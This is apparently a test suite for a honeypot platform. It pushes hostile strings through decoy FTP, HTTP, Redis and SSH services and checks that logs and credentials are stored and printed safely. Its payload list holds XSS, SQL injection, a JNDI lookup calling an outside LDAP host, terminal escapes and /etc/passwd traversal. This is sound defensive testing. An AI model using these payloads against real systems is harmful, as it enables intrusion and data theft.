import { createHash } from 'node:crypto'
import type { Attacker, Credential, LogRow, Page } from '@decnet/contracts/api'
import { when } from '@decnet/kernel/testing'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { decnet } from './rig/cli.ts'
import { run, SSH_OPTIONS } from './rig/client.ts'
import { type Fleet, startFleet } from './rig/fleet.ts'
import { exchange, ftpLogin, httpGet, talk } from './rig/wire.ts'

/** What attackers send to those who read their logs. None holds a line break: these travel in line protocols. */
const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '\u001b[2J\u001b]0;owned\u0007\u001b[31m',
  '\u202eevil\u2066\u2028',
  "' or 1=1; drop table log; --",
  '{{7*7}}$\u007bjndi:ldap://203.0.113.1/a}%n%s',
  '\\"]} ] \\\\ =',
  'ünïcödé 漢字 😀\u0301',
  '../../../../etc/passwd',
]
const WAIT = { timeout: 60_000, interval: 250 }

describe('hostile strings through the services', () => {
  let fleet: Fleet
  beforeAll(async () => {
    fleet = await startFleet()
  })
  afterAll(() => fleet[Symbol.asyncDispose]())

  const credentials = async (service: string) => (await fleet.get<Page<Credential>>(`/credentials?service=${service}&limit=1000`)).data
  const pair = (row: Credential) => [row.principal_b64, row.secret_b64].map((text) => Buffer.from(text ?? '', 'base64').toString('utf8'))
  const logs = async (search: string) => (await fleet.get<Page<LogRow>>(`/logs?limit=1000&search=${encodeURIComponent(search)}`)).data
  /** Both children are those that began. */
  const unharmed = (pids: readonly number[]) => expect([fleet.child('server'), fleet.child('sensor')]).toEqual(pids)

  it('ftp: names and passwords come back exactly', async () => {
    const pids = [fleet.child('server'), fleet.child('sensor')]
    await Promise.all(HOSTILE.map((text) => ftpLogin(fleet.target('ftp'), text, text)))
    await vi.waitFor(async () => expect((await credentials('ftp')).length).toBe(HOSTILE.length), WAIT)
    expect((await credentials('ftp')).map((row) => pair(row)).toSorted()).toEqual(HOSTILE.map((text) => [text, text]).toSorted())
    unharmed(pids)
  })

  it('http: paths, headers and Basic credentials come back exactly', async () => {
    const http = fleet.target('http')
    for (const text of HOSTILE) {
      const basic = Buffer.from(`${text.replaceAll(':', ';')}:${text}`).toString('base64')
      await httpGet(http, `/${encodeURIComponent(text)}`, [`Authorization: Basic ${basic}`])
      await httpGet(http, '/agent', [`User-Agent: ${text}`])
    }
    await vi.waitFor(async () => expect((await credentials('http')).length).toBe(HOSTILE.length), WAIT)
    expect((await credentials('http')).map((row) => pair(row)[1]).toSorted()).toEqual(HOSTILE.toSorted())
    const paths = HOSTILE.map((text) => `/${encodeURIComponent(text)}`).toSorted()
    await vi.waitFor(async () => {
      const requests = await logs('event:http_request')
      expect(requests.flatMap((row) => (row.fields.path === '/agent' ? [] : [row.fields.path])).toSorted()).toEqual(paths)
      // A web server refuses control characters in a header; what it takes is kept as it was.
      const agents = new Set(requests.map((row) => row.fields.user_agent))
      for (const text of HOSTILE.filter((text) => /^[\x20-\x7e]+$/u.test(text))) expect(agents).toContain(text)
    }, WAIT)
  })

  it('redis: names and passwords come back exactly', async () => {
    const redis = fleet.target('redis')
    const bulk = (text: string) => `$${Buffer.byteLength(text)}\r\n${text}\r\n`
    for (const text of HOSTILE) await exchange(redis, [`*3\r\n${bulk('AUTH')}${bulk(text)}${bulk(text)}`, 'QUIT\r\n'])
    await vi.waitFor(async () => expect((await credentials('redis')).length).toBe(HOSTILE.length), WAIT)
    expect((await credentials('redis')).map((row) => pair(row)).toSorted()).toEqual(HOSTILE.map((text) => [text, text]).toSorted())
  })

  it('a user name of one megabyte is cut off or refused, and nobody suffers', async () => {
    const pids = [fleet.child('server'), fleet.child('sensor')]
    const huge = 'A'.repeat(1024 * 1024)
    const before = await fleet.get<Page<Attacker>>('/attackers')
    await Promise.all([
      talk(fleet.target('ftp'), [`USER ${huge}\r\n`, `PASS ${huge}\r\n`], 5_000),
      talk(fleet.target('smtp'), [`EHLO ${huge}\r\n`, `MAIL FROM:<${huge}@example.org>\r\n`], 5_000),
      talk(fleet.target('telnet'), [`${huge}\r\n`, `${huge}\r\n`], 5_000),
      exchange(fleet.target('http'), [`GET /${huge} HTTP/1.1\r\nAuthorization: Basic ${huge}\r\n\r\n`], 5_000),
      exchange(
        fleet.target('redis'),
        [`*3\r\n$4\r\nAUTH\r\n$${huge.length}\r\n${huge}\r\n$${huge.length}\r\n${huge}\r\n`, 'QUIT\r\n'],
        5_000,
      ),
    ])
    await ftpLogin(fleet.target('ftp'), 'after-the-flood', 'x')
    await vi.waitFor(async () => expect((await credentials('ftp')).some((row) => row.principal === 'after-the-flood')).toBe(true), WAIT)
    expect((await fleet.get<Page<Attacker>>('/attackers')).data[0]?.event_count).toBeGreaterThan(before.data[0]?.event_count ?? 0)
    for (const row of await logs('')) expect(JSON.stringify(row.fields).length).toBeLessThan(2 * 1024 * 1024)
    unharmed(pids)
  })

  it('everything that came can be listed, searched and printed', async () => {
    for (const text of HOSTILE) {
      const quoted = `"${text.replaceAll(/["\\]/gu, '\\$&')}"`
      expect((await logs(quoted)).length, text).toBeGreaterThan(0)
      expect((await fleet.get<Page<Credential>>(`/credentials?search=${encodeURIComponent(text)}`)).total, text).toBeGreaterThan(0)
    }
    const all = await fleet.get<Page<Credential>>('/credentials?limit=1000')
    for (const row of all.data)
      expect(row.secret_sha256).toBe(createHash('sha256').update(Buffer.from(row.secret_b64, 'base64')).digest('hex'))
    for (const command of ['attackers', 'credentials', 'events']) {
      const { code, stdout } = await decnet([command, '--home', fleet.home, '--limit', '1000'])
      expect([command, code, stdout.includes('\u001b'), stdout.includes('\u202e')]).toEqual([command, 0, false, false])
    }
    expect((await fleet.get<{ status: string }>('/health')).status).toBe('healthy')
  })
})

when({ tools: { sshpass: 'sshpass', ssh: 'openssh-client' } }).describe('hostile strings through OpenSSH', () => {
  it('user names and passwords come back exactly', async () => {
    await using fleet = await startFleet()
    const { address, port } = fleet.target('ssh')
    // What a shell would understand OpenSSH's client itself refuses in a user name; a password may be anything.
    const names = ['ünï', '%s%n', 'a b', '-x', '😀'.repeat(50)]
    const attempt = (name: string) =>
      run('sshpass', [
        '-p',
        `${name}\u001b[2J"\\]`,
        'ssh',
        ...SSH_OPTIONS,
        '-o',
        'NumberOfPasswordPrompts=1',
        '-p',
        String(port),
        '-l',
        name,
        address,
        'true',
      ])
    await Promise.all(names.map(attempt))
    await vi.waitFor(async () => {
      const { data } = await fleet.get<Page<Credential>>('/credentials?service=ssh&limit=1000')
      const pairs = data.map((row) => [row.principal_b64, row.secret_b64].map((text) => Buffer.from(text ?? '', 'base64').toString('utf8')))
      expect(pairs.toSorted()).toEqual(
        names
          .filter((name) => !name.startsWith('-'))
          .map((name) => [name, `${name}\u001b[2J"\\]`])
          .toSorted(),
      )
    }, WAIT)
  })
})
